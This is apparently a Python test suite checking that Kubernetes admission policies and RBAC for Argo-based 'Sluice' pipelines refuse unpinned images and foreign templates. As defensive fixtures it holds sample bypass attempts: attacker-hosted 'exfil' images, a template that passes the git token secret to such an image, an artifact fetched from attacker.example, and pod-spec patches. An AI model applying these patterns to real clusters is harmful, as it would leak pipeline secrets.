"""Who may submit a workflow cannot pair an image of their choice with the pipeline secrets: RBAC lets them
create Workflows and nothing else, and the admission policies (evaluated here with a CEL interpreter, the
language the API server runs them in) admit only references to Sluice's templates and pods running the
images those templates pin."""

from __future__ import annotations

import copy
from pathlib import Path
from typing import Any

import pytest
import yaml
from admission_cel import admitted

from pipelines import admission, events
from pipelines.batch import build_cron
from pipelines.catalog import catalog
from pipelines.conventions import ARGOEXEC_REPOSITORY, NAMESPACE
from pipelines.submit import submit_request

REPO = Path(__file__).resolve().parents[2]
ARGOEXEC = f"{ARGOEXEC_REPOSITORY}:v3.6.4"


def workflow_pod(image: str, **extra: Any) -> dict[str, Any]:
    """A pod as Argo's controller creates it for a script or container template (emissary executor)."""
    pod = {
        "metadata": {"labels": {admission.WORKFLOW_LABEL: "train-x7k2p"}},
        "spec": {
            "initContainers": [{"name": "init", "image": ARGOEXEC}],
            "containers": [{"name": "wait", "image": ARGOEXEC}, {"name": "main", "image": image}],
        },
    }
    pod["spec"].update(extra)
    return pod


def submitted(template: str, **parameters: str) -> dict[str, Any]:
    """The Workflow the Argo Server creates for a submit-from-template request (`argo submit --from`)."""
    request = submit_request(NAMESPACE, template, parameters, {})
    params = [
        dict(zip(("name", "value"), p.split("=", 1), strict=True))
        for p in request["submitOptions"].get("parameters", [])
    ]
    spec: dict[str, Any] = {"workflowTemplateRef": {"name": template}}
    if params:
        spec["arguments"] = {"parameters": params}
    return {"metadata": {"generateName": f"{template}-", "namespace": NAMESPACE}, "spec": spec}


def test_every_image_a_template_runs_is_admitted() -> None:
    policy = admission.pods_policy()
    images = admission.pinned_images()
    assert len(images) == 2
    for pipe in catalog():
        if pipe.kind != "WorkflowTemplate":
            continue
        for template in pipe.build()["spec"]["templates"]:
            pod = template.get("script") or template.get("container")
            if pod:
                assert admitted(policy, workflow_pod(pod["image"])) == [], (pipe.name, template["name"])


def _other_digest(image: str) -> str:
    return image[:-1] + ("1" if image[-1] == "0" else "0")


@pytest.mark.parametrize(
    "edit",
    [
        lambda p: p["spec"]["containers"][1].update(image="docker.io/attacker/exfil:latest"),
        lambda p: p["spec"]["containers"][1].update(
            image=admission.pinned_images()[0].split("@")[0]
        ),  # tag only
        lambda p: p["spec"]["containers"][1].update(image=_other_digest(admission.pinned_images()[0])),
        lambda p: p["spec"]["containers"].append({"name": "sidecar", "image": admission.pinned_images()[0]}),
        lambda p: p["spec"]["containers"][0].update(image="docker.io/attacker/wait:latest"),
        lambda p: p["spec"]["initContainers"].append({"name": "x", "image": "busybox"}),
        lambda p: p["spec"]["initContainers"][0].update(image="quay.io/argoproj/argoexec-evil:v1"),
    ],
    ids=[
        "other-image",
        "tag-not-digest",
        "other-digest",
        "extra-sidecar",
        "fake-executor",
        "extra-init",
        "lookalike",
    ],
)
def test_a_pod_with_any_other_image_is_refused(edit: Any) -> None:
    pod = workflow_pod(admission.pinned_images()[-1])
    edit(pod)
    assert admitted(admission.pods_policy(), pod)


def test_workflows_sluice_itself_creates_are_admitted() -> None:
    policy = admission.workflows_policy()
    assert admitted(policy, submitted("train", revision="0" * 40)) == []
    assert admitted(policy, submitted("promote", env="staging", candidate="models:/m@challenger")) == []
    assert admitted(policy, submitted("build-serving-image")) == []
    assert admitted(policy, {"spec": events.workflow_to_submit()["spec"]}) == []  # the sensor's
    assert admitted(policy, {"spec": build_cron().to_dict()["spec"]["workflowSpec"]}) == []  # the nightly run


EVIL_TEMPLATE = {
    "name": "exfil",
    "container": {
        "image": "docker.io/attacker/exfil:latest",
        "env": [{"name": "T", "valueFrom": {"secretKeyRef": {"name": "sluice-git", "key": "token"}}}],
    },
}


@pytest.mark.parametrize(
    "edit",
    [
        lambda s: s.update(templates=[EVIL_TEMPLATE], entrypoint="exfil"),
        lambda s: s.update(podSpecPatch='{"containers":[{"name":"main","image":"attacker/x"}]}'),
        lambda s: s.update(serviceAccountName="sluice-ci"),
        lambda s: s.update(entrypoint="kaniko"),
        lambda s: s.update(templateDefaults={"container": {"image": "attacker/x"}}),
        lambda s: s.update(workflowMetadata={"labelsFrom": {"x": {"expression": "workflow.name"}}}),
        lambda s: s["workflowTemplateRef"].update(name="someone-elses"),
        lambda s: s["workflowTemplateRef"].update(clusterScope=True),
        lambda s: s.pop("workflowTemplateRef"),
        lambda s: s.update(
            arguments={
                "parameters": [
                    {"name": "revision", "valueFrom": {"configMapKeyRef": {"name": "x", "key": "y"}}}
                ]
            }
        ),
        lambda s: s.update(
            arguments={"artifacts": [{"name": "source", "http": {"url": "https://attacker.example"}}]}
        ),
    ],
    ids=[
        "own-templates",
        "pod-spec-patch",
        "service-account",
        "entrypoint",
        "template-defaults",
        "metadata-expressions",
        "other-template",
        "cluster-template",
        "no-reference",
        "parameter-from-elsewhere",
        "artifacts",
    ],
)
def test_a_workflow_that_brings_its_own_pods_is_refused(edit: Any) -> None:
    workflow = copy.deepcopy(submitted("train", revision="0" * 40))
    edit(workflow["spec"])
    assert admitted(admission.workflows_policy(), workflow)


def test_policies_bind_to_the_pipelines_namespace_only_and_deny() -> None:
    for binding in (admission.workflows_binding(), admission.pods_binding()):
        assert binding["spec"]["validationActions"] == ["Deny"]
        assert binding["spec"]["matchResources"]["namespaceSelector"]["matchLabels"] == {
            "kubernetes.io/metadata.name": NAMESPACE
        }
    assert admission.pods_policy()["spec"]["failurePolicy"] == "Fail"


def _rbac() -> list[dict[str, Any]]:
    return list(yaml.safe_load_all((REPO / "gitops" / "cluster" / "pipelines-rbac.yaml").read_text()))


def test_submitters_may_create_workflows_and_nothing_that_runs_other_code() -> None:
    roles = {d["metadata"]["name"]: d for d in _rbac() if d["kind"] == "Role"}
    bindings = {
        d["roleRef"]["name"]: [s["name"] for s in d["subjects"]]
        for d in _rbac()
        if d["kind"] == "RoleBinding"
    }
    dangerous = {
        "pods",
        "pods/exec",
        "secrets",
        "configmaps",
        "workflowtemplates",
        "clusterworkflowtemplates",
    }
    dangerous |= {"cronworkflows", "sensors", "eventsources", "roles", "rolebindings", "serviceaccounts"}
    for name, role in roles.items():
        for rule in role["rules"]:
            writes = set(rule["verbs"]) - {"get", "list", "watch"}
            if writes:
                assert set(rule["resources"]) <= {"workflows", "workflowtaskresults"}, (name, rule)
                assert writes <= {"create", "patch"}, (name, rule)
            if set(rule["resources"]) & dangerous:
                assert set(rule["verbs"]) <= {"get", "list", "watch"}, (name, rule)
            assert "secrets" not in rule["resources"], name
    ci = [rule for rule in roles["sluice-ci-submit"]["rules"] if "workflows" in rule["resources"]]
    assert {v for rule in ci for v in rule["verbs"]} == {"create", "get", "list", "watch"}  # no update/patch
    assert bindings["sluice-ci-submit"] == ["sluice-ci"]
